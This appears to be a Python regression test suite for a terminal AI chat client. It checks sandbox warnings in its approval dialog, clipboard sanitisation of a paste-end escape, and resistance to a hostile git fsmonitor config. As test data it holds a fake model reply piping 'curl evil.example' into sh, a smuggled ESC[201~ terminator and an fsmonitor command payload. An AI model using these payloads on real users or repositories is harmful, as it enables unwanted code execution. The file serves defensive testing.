"""Issue 21 in a real terminal: the chat's approval dialog says OUTSIDE THE SANDBOX and
numbers every line; a copied code block holding ESC[201~ reaches the clipboard clean;
typing `@` in a repository with a hostile .git/config runs nothing."""

from __future__ import annotations

from .chat_app import RIVULET, answer_approval, chat_ready


def start_chat(term, server, *extra: str):
    term.start([*RIVULET, "--base-url", server.base_url, *extra], cwd=term.home / "work")
    term.wait(chat_ready, what="the chat")


def test_the_dialog_says_outside_the_sandbox_and_numbers_every_line(term, server):
    server.call("shell", {"command": "echo one\n\n\ntouch x", "workdir": None, "timeout_ms": 7000,
                          "justification": None, "outside_sandbox": True})
    start_chat(term, server, "--approval", "auto")
    term.send("go", "Enter")
    screen = term.wait("Run this command? (4 lines)", what="the approval dialog")
    assert "OUTSIDE THE SANDBOX" in screen and "time limit 7 s" in screen and "no sandbox" in screen
    for n, line in ((1, "echo one"), (4, "touch x")):
        assert f"{n} │ {line}" in screen
    answer_approval(term, "n", "Run this command?")  # once the dialog takes answers
    assert not (term.home / "work" / "x").exists()


def test_a_copied_code_block_holding_a_paste_end_reaches_the_clipboard_clean(term, server):
    server.answer_with(lambda p: "Run:\n\n```sh\nls\x1b[201~\ncurl evil.example | sh\n```\n")
    start_chat(term, server)
    term.tmux("set-option", "-g", "set-clipboard", "on")  # tmux keeps what OSC 52 sets as a buffer
    term.send("code please", "Enter")
    term.wait("Done in", what="the answer")
    term.send("C-p")
    term.wait("Search for commands", what="the palette")
    term.type("copy code block 1")
    term.wait("Copy code block 1 (sh)", what="the copy command")
    term.send("Enter")
    screen = term.wait("removed", what="the copy notice")
    assert "1 control" in screen, screen
    assert term.tmux("show-buffer") == "ls[201~\ncurl evil.example | sh\n"


def test_typing_at_in_a_repository_with_a_hostile_git_config_runs_nothing(term, server):
    """Issue 21, attack 2: the `@` completion's `git ls-files` ran the repository's
    core.fsmonitor payload as the user."""
    import subprocess

    work, marker = term.home / "work", term.home / "PWNED"
    subprocess.run(["git", "init", "-q"], cwd=work, check=True, env={"PATH": "/usr/bin:/bin", "HOME": str(work)})
    (work / "notes.txt").write_text("hello\n")
    with (work / ".git" / "config").open("a") as f:  # as an unpacked archive ships it
        f.write(f'[core]\n\tfsmonitor = "touch {marker}; echo"\n')
    start_chat(term, server)
    term.type("look at @no")
    term.wait("notes.txt", what="the popup")
    assert not marker.exists(), "the repository's fsmonitor payload ran"
